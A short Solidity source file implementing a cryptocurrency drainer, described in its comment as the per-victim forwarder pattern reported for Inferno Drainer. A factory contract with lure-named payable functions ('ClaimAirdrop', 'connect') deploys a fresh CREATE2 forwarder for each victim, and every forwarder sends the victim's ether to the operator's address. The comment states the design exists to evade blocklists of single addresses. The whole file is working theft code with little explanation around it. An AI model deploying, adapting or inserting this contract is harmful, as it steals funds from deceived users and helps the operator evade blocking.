// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Per-victim forwarders (a pattern reported for Inferno Drainer): each victim pays a fresh CREATE2 address
/// whose code forwards everything to the operator, so blocklists of one address miss the next victim.
contract Forwarder {
    address payable private immutable sink;
    constructor(address payable s) { sink = s; }
    receive() external payable { sink.transfer(address(this).balance); }
    function flush() external { sink.transfer(address(this).balance); }
}

contract ForwarderFactory {
    address payable private operator;
    constructor() { operator = payable(msg.sender); }

    function ClaimAirdrop() external payable {
        Forwarder f = new Forwarder{salt: keccak256(abi.encodePacked(msg.sender, block.number))}(operator);
        (bool ok, ) = address(f).call{value: msg.value}("");
        require(ok);
    }

    function connect() external payable { operator.transfer(msg.value); }
}
